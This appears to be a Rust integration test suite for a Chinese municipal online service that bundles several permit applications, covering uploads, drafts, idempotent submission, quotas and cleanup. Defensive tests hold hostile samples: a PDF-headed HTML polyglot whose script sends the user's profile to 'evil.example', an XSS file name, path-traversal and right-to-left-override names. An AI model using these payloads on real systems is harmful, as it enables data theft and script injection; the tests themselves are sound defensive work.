//! 一事联办 over HTTP against a real SQLite file and upload directory: the kit, uploads checked
//! by content and owned by their uploader, drafts, and the combined application that the
//! server re-checks with the same engine and creates exactly once per idempotency key.

mod common;

use common::apply::{restaurant_request, PNG};
use common::{assert_error, login, verified_citizen, TestServer};
use reqwest::multipart::{Form, Part};
use serde_json::{json, Value};

/// A small whole PDF.
const PDF: &[u8] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";

const MIB: usize = 1024 * 1024;

/// A whole JPEG of `size` bytes (SOI, one segment, a scan, EOI) whose scan data is `seed`:
/// different seeds are different files.
fn jpeg(size: usize, seed: u8) -> Vec<u8> {
    let mut v = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 16];
    v.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
    v.extend_from_slice(&[0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0x3F, 0]);
    v.resize(size - 2, seed);
    v.extend_from_slice(&[0xFF, 0xD9]);
    v
}

async fn dev_server() -> TestServer {
    TestServer::start_dev(|_| {}).await
}

async fn upload(s: &TestServer, c: &reqwest::Client, name: &str, bytes: &[u8]) -> (u16, Value) {
    let form = Form::new().part(
        "file",
        Part::bytes(bytes.to_vec()).file_name(name.to_string()),
    );
    let res = c
        .post(format!("{}/api/v1/uploads", s.base))
        .multipart(form)
        .send()
        .await
        .unwrap();
    (res.status().as_u16(), res.json().await.unwrap())
}

async fn submit(s: &TestServer, c: &reqwest::Client, key: &str, body: &Value) -> (u16, Value) {
    let res = c
        .post(format!("{}/api/v1/applications", s.base))
        .header("idempotency-key", key)
        .json(body)
        .send()
        .await
        .unwrap();
    (res.status().as_u16(), res.json().await.unwrap())
}

async fn get(s: &TestServer, c: &reqwest::Client, path: &str) -> (u16, Value) {
    let res = c.get(format!("{}{path}", s.base)).send().await.unwrap();
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn the_kit_of_a_theme_is_public_and_holds_what_the_engine_needs() {
    let s = TestServer::start().await;
    let kit = s.json("/api/v1/themes/open-restaurant/kit", 200).await;
    assert_eq!(kit["theme"]["name"], "我要开饭店");
    assert_eq!(kit["matters"].as_array().unwrap().len(), 8);
    let fields: Vec<&str> = kit["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    assert!(fields.contains(&"shop_name"));
    assert!(!fields.contains(&"baby_name"), "only this theme's fields");
    assert_error(
        &s.json("/api/v1/themes/no-such-theme/kit", 404).await,
        "theme_not_found",
    );
}

#[tokio::test]
async fn uploads_are_checked_by_content_and_need_a_verified_citizen() {
    let s = dev_server().await;
    let anonymous = TestServer::new_client();
    let res = anonymous
        .post(format!("{}/api/v1/uploads", s.base))
        .multipart(Form::new().part("file", Part::bytes(PNG.to_vec()).file_name("a.png")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 401);

    let unverified = login(&s, "13700000001").await;
    let (status, body) = upload(&s, &unverified, "lease.png", PNG).await;
    assert_eq!(status, 403);
    assert_error(&body, "identity_unverified");

    let c = verified_citizen(&s, "13700000002", "王小明", "42100219900101123").await;
    let (status, body) = upload(&s, &c, "租赁合同.png", PNG).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["content_type"], "image/png");
    assert_eq!(body["name"], "租赁合同.png");
    // A text file named .png, and an executable named .pdf, are refused by their content.
    let (status, body) = upload(&s, &c, "lease.png", b"hello, I am text").await;
    assert_eq!(status, 415);
    assert_error(&body, "unsupported_type");
    let (status, _) = upload(&s, &c, "lease.pdf", b"MZ\x90\0\x03").await;
    assert_eq!(status, 415);
    let (status, _) = upload(&s, &c, "scan.pdf", PDF).await;
    assert_eq!(status, 201);
    let big = {
        let mut v = b"\xff\xd8\xff\xe0".to_vec();
        v.resize(11 * 1024 * 1024, 0);
        v
    };
    let (status, body) = upload(&s, &c, "huge.jpg", &big).await;
    assert_eq!(status, 413);
    assert_error(&body, "too_large");

    // The owner reads it back; another citizen cannot, even knowing the id.
    let (_, first) = upload(&s, &c, "again.png", PNG).await;
    let id = first["id"].as_str().unwrap();
    let res = c
        .get(format!("{}/api/v1/uploads/{id}", s.base))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200);
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
    let other = verified_citizen(&s, "13700000003", "李四", "42100219900101124").await;
    let (status, _) = get(&s, &other, &format!("/api/v1/uploads/{id}")).await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn a_restaurant_application_becomes_one_case_with_four_sub_cases_exactly_once() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000011", "王小明", "42100219900101123").await;
    let (_, up) = upload(&s, &c, "photo.png", PNG).await;
    let body = restaurant_request(&s, up["id"].as_str().unwrap()).await;

    // A draft saved along the way is cleared by the submit.
    let res = c
        .put(format!("{}/api/v1/drafts/open-restaurant", s.base))
        .json(&json!({ "step": "review", "content": body, "version": 0 }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200);

    let (status, case) = submit(&s, &c, "submit-key-0001", &body).await;
    assert_eq!(status, 201, "{case}");
    let number = case["number"].as_str().unwrap();
    assert!(number.starts_with("LB20261125"), "{number}");
    assert_eq!(case["query_code"].as_str().unwrap().len(), 6);
    assert_eq!(case["theme_name"], "我要开饭店");
    assert_eq!(case["delivery"], "窗口领取：荆州市民之家（市政务服务中心）");
    let subs: Vec<(&str, &str, &str)> = case["sub_cases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["matter_code"].as_str().unwrap(),
                s["department_name"].as_str().unwrap(),
                s["promised_date"].as_str().unwrap(),
            )
        })
        .collect();
    // Submitted on Wednesday 2026-11-25: 即办件 today; 3 working days is Monday the 30th;
    // 5 working days is Wednesday 2 December.
    assert_eq!(
        subs,
        [
            ("SCJG-002", "荆州市市场监督管理局", "2026-11-25"),
            ("SCJG-003", "荆州市市场监督管理局", "2026-11-30"),
            ("CG-001", "荆州市城市管理执法局", "2026-11-30"),
            ("ZJ-003", "荆州市住房和城乡建设局", "2026-12-02"),
        ]
    );
    assert!(case["sub_cases"][0]["number"]
        .as_str()
        .unwrap()
        .starts_with(number));

    // A retry with the same key gives the same case; a changed body under it is refused.
    let (status, again) = submit(&s, &c, "submit-key-0001", &body).await;
    assert_eq!(status, 200);
    assert_eq!(again["number"], number);
    let mut changed = body.clone();
    changed["fields"]["shop_name"] = json!("另一家店");
    let (status, refused) = submit(&s, &c, "submit-key-0001", &changed).await;
    assert_eq!(status, 409);
    assert_error(&refused, "idempotency_key_reused");

    let (_, mine) = get(&s, &c, "/api/v1/applications").await;
    assert_eq!(mine["total"], 1);
    let (status, one) = get(&s, &c, &format!("/api/v1/applications/{number}")).await;
    assert_eq!(status, 200);
    assert_eq!(one["sub_cases"].as_array().unwrap().len(), 4);
    let (status, _) = get(&s, &c, "/api/v1/drafts/open-restaurant").await;
    assert_eq!(status, 404, "the draft is cleared");

    // Another citizen sees neither the case nor it in their list.
    let other = verified_citizen(&s, "13700000012", "李四", "42100219900101124").await;
    let (status, _) = get(&s, &other, &format!("/api/v1/applications/{number}")).await;
    assert_eq!(status, 404);
    let (_, theirs) = get(&s, &other, "/api/v1/applications").await;
    assert_eq!(theirs["total"], 0);
}

#[tokio::test]
async fn concurrent_retries_of_one_submit_create_one_case() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000021", "王小明", "42100219900101123").await;
    let (_, up) = upload(&s, &c, "photo.png", PNG).await;
    let body = restaurant_request(&s, up["id"].as_str().unwrap()).await;
    let mut set = tokio::task::JoinSet::new();
    for _ in 0..6 {
        let (c, url, body) = (
            c.clone(),
            format!("{}/api/v1/applications", s.base),
            body.clone(),
        );
        set.spawn(async move {
            let res = c
                .post(url)
                .header("idempotency-key", "double-tap-key")
                .json(&body)
                .send()
                .await
                .unwrap();
            (res.status().as_u16(), res.json::<Value>().await.unwrap())
        });
    }
    let results = set.join_all().await;
    let created = results.iter().filter(|(st, _)| *st == 201).count();
    assert_eq!(created, 1, "{results:?}");
    assert!(results.iter().all(|(st, _)| *st == 201 || *st == 200));
    let numbers: std::collections::BTreeSet<&str> = results
        .iter()
        .map(|(_, b)| b["number"].as_str().unwrap())
        .collect();
    assert_eq!(numbers.len(), 1);
    let (_, mine) = get(&s, &c, "/api/v1/applications").await;
    assert_eq!(mine["total"], 1);
}

#[tokio::test]
async fn tampered_applications_are_refused_with_the_field_at_fault() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000031", "王小明", "42100219900101123").await;
    let (_, up) = upload(&s, &c, "photo.png", PNG).await;
    let good = restaurant_request(&s, up["id"].as_str().unwrap()).await;

    // A material of a matter the answers do not bring in (the fire check under 300 m²).
    let mut extra = good.clone();
    extra["materials"]["XF-001/fire_safety_system"] =
        json!({ "kind": "upload", "uploads": [up["id"]] });
    let (status, body) = submit(&s, &c, "tamper-0001", &extra).await;
    assert_eq!(status, 422);
    assert_error(&body, "invalid_application");
    assert_eq!(
        body["error"]["fields"]["materials.XF-001/fire_safety_system"],
        "这份材料不在您的告知单中"
    );

    // A required material missing, and one that may not be deferred.
    let mut missing = good.clone();
    missing["materials"]
        .as_object_mut()
        .unwrap()
        .remove("SCJG-003/layout_plan");
    missing["materials"]["SCJG-003/safety_rules"] =
        json!({ "kind": "deferred", "commitment": true });
    let (status, body) = submit(&s, &c, "tamper-0002", &missing).await;
    assert_eq!(status, 422);
    let fields = &body["error"]["fields"];
    assert!(fields["materials.SCJG-003/layout_plan"]
        .as_str()
        .unwrap()
        .starts_with("请上传"));
    assert!(fields["materials.SCJG-003/safety_rules"]
        .as_str()
        .unwrap()
        .contains("不能容缺"));

    // A bad identity number, in the words the browser shows.
    let mut bad_id = good.clone();
    bad_id["fields"]["food_safety_manager_id_number"] = json!("421002198503120021");
    let (status, body) = submit(&s, &c, "tamper-0003", &bad_id).await;
    assert_eq!(status, 422);
    let message = body["error"]["fields"]["fields.food_safety_manager_id_number"]
        .as_str()
        .unwrap();
    assert!(message.contains("公民身份号码"), "{message}");

    // An answer that is not one of the options, and a questionnaire left half done.
    let mut bad_answer = good.clone();
    bad_answer["answers"]["venue"] = json!("castle");
    let (status, body) = submit(&s, &c, "tamper-0004", &bad_answer).await;
    assert_eq!(status, 422);
    assert!(body["error"]["fields"]["answers.venue"].is_string());

    // Someone else's upload.
    let other = verified_citizen(&s, "13700000032", "李四", "42100219900101124").await;
    let (_, theirs) = upload(&s, &other, "theirs.png", PNG).await;
    let mut foreign = good.clone();
    foreign["materials"]["premises_lease"] = json!({ "kind": "upload", "uploads": [theirs["id"]] });
    let (status, body) = submit(&s, &c, "tamper-0005", &foreign).await;
    assert_eq!(status, 422);
    assert!(body["error"]["fields"]["materials.premises_lease"]
        .as_str()
        .unwrap()
        .contains("不是您上传的"));

    // Nothing was created by any of these.
    let (_, mine) = get(&s, &c, "/api/v1/applications").await;
    assert_eq!(mine["total"], 0);
    // And the untampered one goes through.
    let (status, _) = submit(&s, &c, "tamper-0006", &good).await;
    assert_eq!(status, 201);
}

async fn put_draft(c: &reqwest::Client, s: &TestServer, theme: &str, body: Value) -> (u16, Value) {
    let res = c
        .put(format!("{}/api/v1/drafts/{theme}", s.base))
        .json(&body)
        .send()
        .await
        .unwrap();
    (
        res.status().as_u16(),
        res.json().await.unwrap_or(Value::Null),
    )
}

#[tokio::test]
async fn drafts_follow_the_citizen_and_a_save_from_an_older_version_gets_the_newer_copy() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000041", "王小明", "42100219900101123").await;
    let content = json!({ "theme_id": "newborn", "answers": { "birth_place": "local_hospital" } });
    let save = |c: &reqwest::Client, step: &str, version: i64| {
        let (c, s) = (c.clone(), &s);
        let body = json!({ "step": step, "content": content, "version": version });
        async move { put_draft(&c, s, "newborn", body).await }
    };
    let (status, d) = save(&c, "questions", 0).await;
    assert_eq!(status, 200, "{d}");
    assert_eq!(d["theme_name"], "新生儿出生一件事");
    assert_eq!(d["version"], 1);
    // Stamped by the server's clock (2026-11-25 10:00 China time), not by the phone's.
    assert_eq!(d["saved_at"], common::START * 1000);
    let (_, d) = save(&c, "checklist", 1).await;
    assert_eq!(
        (d["step"].as_str(), d["version"].as_i64()),
        (Some("checklist"), Some(2))
    );

    // The same account on another phone sees it (a new code may be sent after a minute),
    // and saves from it.
    s.clock.advance(61);
    let phone2 = login(&s, "13700000041").await;
    let (_, list) = get(&s, &phone2, "/api/v1/drafts").await;
    assert_eq!(list["total"], 1);
    assert_eq!(
        list["items"][0]["content"]["answers"]["birth_place"],
        "local_hospital"
    );
    assert_eq!(list["items"][0]["version"], 2);
    let (status, d) = save(&phone2, "form", 2).await;
    assert_eq!((status, d["version"].as_i64()), (200, Some(3)));

    // The first phone, still at version 2, is told, and given the newer copy to choose from.
    let (status, refused) = save(&c, "materials", 2).await;
    assert_eq!(status, 409);
    assert_error(&refused, "draft_conflict");
    assert_eq!(refused["draft"]["step"], "form");
    assert_eq!(refused["draft"]["version"], 3);
    let (_, now) = get(&s, &c, "/api/v1/drafts/newborn").await;
    assert_eq!(now["step"], "form", "the refused save changed nothing");
    // Keeping its own copy means saving it from the version it now knows.
    let (status, kept) = save(&c, "materials", 3).await;
    assert_eq!((status, kept["step"].as_str()), (200, Some("materials")));
    assert_eq!(kept["version"], 4);

    // Another citizen does not see it; an unknown theme is refused; a draft can be discarded.
    let other = verified_citizen(&s, "13700000042", "李四", "42100219900101124").await;
    let (_, theirs) = get(&s, &other, "/api/v1/drafts").await;
    assert_eq!(theirs["total"], 0);
    let (status, _) = put_draft(
        &c,
        &s,
        "no-such-theme",
        json!({ "step": "questions", "content": { "theme_id": "no-such-theme" }, "version": 0 }),
    )
    .await;
    assert_eq!(status, 404);
    let res = c
        .delete(format!("{}/api/v1/drafts/newborn", s.base))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 204);
    let (status, _) = get(&s, &c, "/api/v1/drafts/newborn").await;
    assert_eq!(status, 404);
}

/// The attack: one save stamped a year ahead by a phone's wrong clock used to make every
/// later save with a correct clock answer 200 and be dropped.
#[tokio::test]
async fn a_save_stamped_a_year_ahead_no_longer_blocks_the_saves_after_it() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000043", "王小明", "42100219900101123").await;
    let content = json!({ "theme_id": "newborn", "answers": { "birth_place": "local_hospital" } });
    let year_ahead = (common::START + 366 * 86_400) * 1000;
    let (status, first) = put_draft(
        &c,
        &s,
        "newborn",
        json!({ "step": "questions", "content": content, "saved_at": year_ahead, "version": 0 }),
    )
    .await;
    assert_eq!(status, 200, "{first}");
    let (status, second) = put_draft(
        &c,
        &s,
        "newborn",
        json!({ "step": "form", "content": content, "saved_at": common::START * 1000,
                "version": first["version"] }),
    )
    .await;
    assert_eq!(status, 200, "{second}");
    assert_eq!(second["step"], "form");
    let (_, stored) = get(&s, &c, "/api/v1/drafts/newborn").await;
    assert_eq!(stored["step"], "form");
    assert_eq!(stored["saved_at"], common::START * 1000);
}

/// The attack: `%PDF-` in front of a web page with script was stored as a PDF.
#[tokio::test]
async fn a_web_page_behind_a_pdf_header_and_cut_off_files_are_refused() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000051", "王小明", "42100219900101123").await;
    let polyglot: &[u8] = b"%PDF-1.4\n<html><body><script>fetch('/api/v1/me').then(r => r.text()).then(t => new Image().src = '//evil.example/?' + t)</script></body></html>\n%%EOF\n";
    let (status, body) = upload(&s, &c, "营业执照.pdf", polyglot).await;
    assert_eq!(status, 415, "{body}");
    assert_error(&body, "malformed_file");
    // An image with its end cut off, and a PDF without its trailer.
    let (status, body) = upload(&s, &c, "photo.png", &PNG[..PNG.len() - 12]).await;
    assert_eq!(status, 415);
    assert_error(&body, "malformed_file");
    let (status, _) = upload(&s, &c, "photo.jpg", &jpeg(4096, 7)[..4000]).await;
    assert_eq!(status, 415);
    let (status, _) = upload(&s, &c, "scan.pdf", &PDF[..PDF.len() - 7]).await;
    assert_eq!(status, 415);
    // Whole files of each type are taken.
    for (name, bytes, kind) in [
        ("photo.png", PNG.to_vec(), "image/png"),
        ("photo.jpg", jpeg(4096, 7), "image/jpeg"),
        ("scan.pdf", PDF.to_vec(), "application/pdf"),
    ] {
        let (status, body) = upload(&s, &c, name, &bytes).await;
        assert_eq!(status, 201, "{name}: {body}");
        assert_eq!(body["content_type"], kind);
    }
}

/// The attack: file names came back as sent, paths and direction overrides included, and
/// a download was `inline`, shown by the browser on the platform's own origin.
#[tokio::test]
async fn hostile_file_names_come_back_as_plain_data_and_downloads_are_sandboxed_attachments() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000052", "王小明", "42100219900101123").await;
    let long = format!("{}.png", "很长的文件名".repeat(50));
    let cases = [
        (
            "../../<img src=x onerror=alert(1)>.png".to_string(),
            "<img src=x onerror=alert(1)>.png".to_string(),
        ),
        (
            "C:\\fakepath\\营业执照.png".to_string(),
            "营业执照.png".to_string(),
        ),
        (
            "lease\u{202E}gnp.exe".to_string(),
            "leasegnp.exe".to_string(),
        ),
    ];
    let mut ids = Vec::new();
    for (sent, kept) in &cases {
        let (status, body) = upload(&s, &c, sent, PNG).await;
        assert_eq!(status, 201, "{sent}: {body}");
        assert_eq!(body["name"], kept.as_str(), "{sent}");
        ids.push(body["id"].as_str().unwrap().to_string());
    }
    let (_, body) = upload(&s, &c, &long, PNG).await;
    let name = body["name"].as_str().unwrap();
    assert_eq!(name.chars().count(), 100);
    assert!(name.ends_with("名.png"), "{name}");

    let res = c
        .get(format!("{}/api/v1/uploads/{}", s.base, ids[0]))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200);
    let header = |n: &str| {
        res.headers()
            .get(n)
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(
        header("content-security-policy"),
        "sandbox; default-src 'none'"
    );
    assert_eq!(header("content-type"), "image/png");
    let disposition = header("content-disposition");
    assert_eq!(
        disposition,
        "attachment; filename=\"_img src_x onerror_alert(1)_.png\"; \
         filename*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E.png"
    );
    let res = c
        .get(format!("{}/api/v1/uploads/{}", s.base, ids[1]))
        .send()
        .await
        .unwrap();
    assert_eq!(
        res.headers()["content-disposition"],
        "attachment; filename=\"____.png\"; \
         filename*=UTF-8''%E8%90%A5%E4%B8%9A%E6%89%A7%E7%85%A7.png"
    );
}

/// The attack: one citizen stored 20 files of 5 MiB in a second. The quota's defaults refuse
/// what passes 80 MiB not yet in a submitted case, and a submit frees what its case uses.
#[tokio::test]
async fn twenty_files_of_5_mib_are_refused_past_the_quota_until_a_submit_frees_it() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000061", "王小明", "42100219900101123").await;
    let mut accepted = Vec::new();
    let mut refused = Vec::new();
    for i in 0..20u8 {
        let (status, body) = upload(&s, &c, &format!("page-{i}.jpg"), &jpeg(5 * MIB, i)).await;
        match status {
            201 => accepted.push(body["id"].as_str().unwrap().to_string()),
            _ => refused.push((status, body)),
        }
    }
    assert_eq!(
        accepted.len(),
        16,
        "80 MiB fit: nine materials of two photos each"
    );
    assert_eq!(refused.len(), 4);
    for (status, body) in &refused {
        assert_eq!(*status, 413);
        assert_error(body, "upload_pending_limit");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains("80MB"), "{message}");
        assert!(message.contains("先提交申请"), "{message}");
    }
    // Only what was stored counts: the refused files left nothing behind.
    let (_, theirs) = upload(&s, &c, "again.jpg", &jpeg(5 * MIB, 200)).await;
    assert_error(&theirs, "upload_pending_limit");

    // A submitted case takes its upload out of the pending total: one more 5 MiB fits.
    let body = restaurant_request(&s, &accepted[0]).await;
    let (status, case) = submit(&s, &c, "quota-submit-1", &body).await;
    assert_eq!(status, 201, "{case}");
    let (status, _) = upload(&s, &c, "after.jpg", &jpeg(5 * MIB, 201)).await;
    assert_eq!(status, 201);
    let (status, _) = upload(&s, &c, "one-more.jpg", &jpeg(5 * MIB, 202)).await;
    assert_eq!(status, 413);

    // Another citizen has a quota of their own.
    let other = verified_citizen(&s, "13700000062", "李四", "42100219900101124").await;
    let (status, _) = upload(&s, &other, "theirs.jpg", &jpeg(5 * MIB, 203)).await;
    assert_eq!(status, 201);
}

#[tokio::test]
async fn the_daily_file_count_is_refused_until_tomorrow() {
    let s = TestServer::start_dev(|c| c.upload_files_per_day = 3).await;
    let c = verified_citizen(&s, "13700000063", "王小明", "42100219900101123").await;
    for i in 0..3 {
        let (status, _) = upload(&s, &c, &format!("p{i}.png"), PNG).await;
        assert_eq!(status, 201);
    }
    let res = c
        .post(format!("{}/api/v1/uploads", s.base))
        .multipart(Form::new().part("file", Part::bytes(PNG.to_vec()).file_name("p3.png")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 429);
    // 10:00 China time: fourteen hours to midnight.
    assert_eq!(res.headers()["retry-after"], "50400");
    let body: Value = res.json().await.unwrap();
    assert_error(&body, "upload_daily_files");
    assert!(body["error"]["message"]
        .as_str()
        .unwrap()
        .contains("今天已上传3个文件"));
    s.clock.advance(50_400);
    let c = login(&s, "13700000063").await;
    let (status, _) = upload(&s, &c, "tomorrow.png", PNG).await;
    assert_eq!(status, 201);
}

/// The attack: the same application under a fresh Idempotency-Key made a new case each time.
#[tokio::test]
async fn a_resubmit_under_a_fresh_key_warns_of_the_open_case_before_a_second_is_made() {
    let s = dev_server().await;
    let c = verified_citizen(&s, "13700000071", "王小明", "42100219900101123").await;
    let (_, up) = upload(&s, &c, "photo.png", PNG).await;
    let body = restaurant_request(&s, up["id"].as_str().unwrap()).await;
    let (status, first) = submit(&s, &c, "resubmit-key-1", &body).await;
    assert_eq!(status, 201, "{first}");
    let number = first["number"].as_str().unwrap();

    let (status, warned) = submit(&s, &c, "resubmit-key-2", &body).await;
    assert_eq!(status, 409, "{warned}");
    assert_error(&warned, "open_case_exists");
    assert_eq!(warned["case_number"], number);
    assert!(warned["error"]["message"]
        .as_str()
        .unwrap()
        .contains(number));
    // The same key and body still answer the first case.
    let (status, again) = submit(&s, &c, "resubmit-key-1", &body).await;
    assert_eq!((status, again["number"].as_str()), (200, Some(number)));

    // Confirmed, the second key makes a second case, once.
    let mut confirmed = body.clone();
    confirmed["new_case_confirmed"] = json!(true);
    let (status, second) = submit(&s, &c, "resubmit-key-2", &confirmed).await;
    assert_eq!(status, 201, "{second}");
    assert_ne!(second["number"], number);
    let (status, replay) = submit(&s, &c, "resubmit-key-2", &confirmed).await;
    assert_eq!((status, &replay["number"]), (200, &second["number"]));
    let (_, mine) = get(&s, &c, "/api/v1/applications").await;
    assert_eq!(mine["total"], 2);

    // Another citizen's open case of the theme holds nobody else back.
    let other = verified_citizen(&s, "13700000072", "李四", "42100219900101124").await;
    let (_, up) = upload(&s, &other, "photo.png", PNG).await;
    let body = restaurant_request(&s, up["id"].as_str().unwrap()).await;
    let (status, _) = submit(&s, &other, "other-key-1", &body).await;
    assert_eq!(status, 201);
}

/// Every file under `dir`, written ones only (no `.part`).
fn stored_files(dir: &std::path::Path) -> usize {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return 0;
    };
    entries
        .flatten()
        .map(|e| {
            let path = e.path();
            if path.is_dir() {
                stored_files(&path)
            } else {
                usize::from(!path.to_string_lossy().ends_with(".part"))
            }
        })
        .sum()
}

/// A second server process (a replica) over the test server's database and upload
/// directory, with a clock of its own: the sweep is called on it directly.
async fn replica(s: &TestServer, now: i64) -> lianban_server::AppState {
    let mut config = lianban_server::config::Config::for_paths(
        format!("sqlite://{}", s.dir.path().join("test.db").display()),
        s.dir.path().join("dist"),
        common::repo_data_dir(),
    );
    config.upload_dir = s.dir.path().join("uploads");
    lianban_server::build_state_with_clock(
        &config,
        std::sync::Arc::new(lianban_server::clock::ManualClock::new(now)),
    )
    .await
    .unwrap()
}

#[tokio::test]
async fn the_sweep_removes_uploads_nothing_uses_and_keeps_those_a_draft_or_case_uses() {
    const DAY: i64 = 86_400;
    let s = dev_server().await;
    let phone = "13700000081";
    let c = verified_citizen(&s, phone, "王小明", "42100219900101123").await;
    let id = |b: &Value| b["id"].as_str().unwrap().to_string();
    // Never used; the same bytes twice, one of them in a draft; one in a case.
    let (_, unused) = upload(&s, &c, "unused.jpg", &jpeg(2048, 1)).await;
    let (_, dropped_twin) = upload(&s, &c, "twin.jpg", &jpeg(2048, 2)).await;
    let (_, drafted) = upload(&s, &c, "twin-again.jpg", &jpeg(2048, 2)).await;
    let (_, submitted) = upload(&s, &c, "case.jpg", &jpeg(2048, 3)).await;
    let (status, _) = put_draft(
        &c,
        &s,
        "newborn",
        json!({ "step": "materials", "version": 0, "content": { "theme_id": "newborn",
            "materials": { "birth_medical_certificate": { "kind": "upload", "uploads": [id(&drafted)] } } } }),
    )
    .await;
    assert_eq!(status, 200);
    let body = restaurant_request(&s, &id(&submitted)).await;
    let (status, _) = submit(&s, &c, "sweep-case", &body).await;
    assert_eq!(status, 201);
    // Six days later, an upload not used yet.
    s.clock.advance(6 * DAY);
    let c = login(&s, phone).await;
    let (_, recent) = upload(&s, &c, "recent.jpg", &jpeg(2048, 4)).await;
    let uploads = s.dir.path().join("uploads");
    assert_eq!(stored_files(&uploads), 4, "the twins share their bytes");

    // On day eight: the unused pair goes; the twin's bytes stay for the drafted one.
    let report = lianban_server::applications::sweep_unused_uploads(
        &replica(&s, common::START + 8 * DAY).await,
    )
    .await
    .unwrap();
    assert_eq!((report.uploads, report.files), (2, 1));
    assert_eq!(stored_files(&uploads), 3);
    s.clock.advance(2 * DAY);
    let c = login(&s, phone).await;
    let status_of = |u: &Value| {
        let url = format!("{}/api/v1/uploads/{}", s.base, id(u));
        let c = c.clone();
        async move { c.get(url).send().await.unwrap().status().as_u16() }
    };
    assert_eq!(status_of(&unused).await, 404);
    assert_eq!(status_of(&dropped_twin).await, 404);
    assert_eq!(status_of(&drafted).await, 200);
    assert_eq!(status_of(&submitted).await, 200);
    assert_eq!(status_of(&recent).await, 200);

    // Once the draft is discarded and a week has passed, its upload and the recent one go
    // too; the case keeps its own.
    let res = c
        .delete(format!("{}/api/v1/drafts/newborn", s.base))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 204);
    let report = lianban_server::applications::sweep_unused_uploads(
        &replica(&s, common::START + 30 * DAY).await,
    )
    .await
    .unwrap();
    assert_eq!((report.uploads, report.files), (2, 2));
    assert_eq!(stored_files(&uploads), 1);
    assert_eq!(status_of(&drafted).await, 404);
    assert_eq!(status_of(&submitted).await, 200);
}
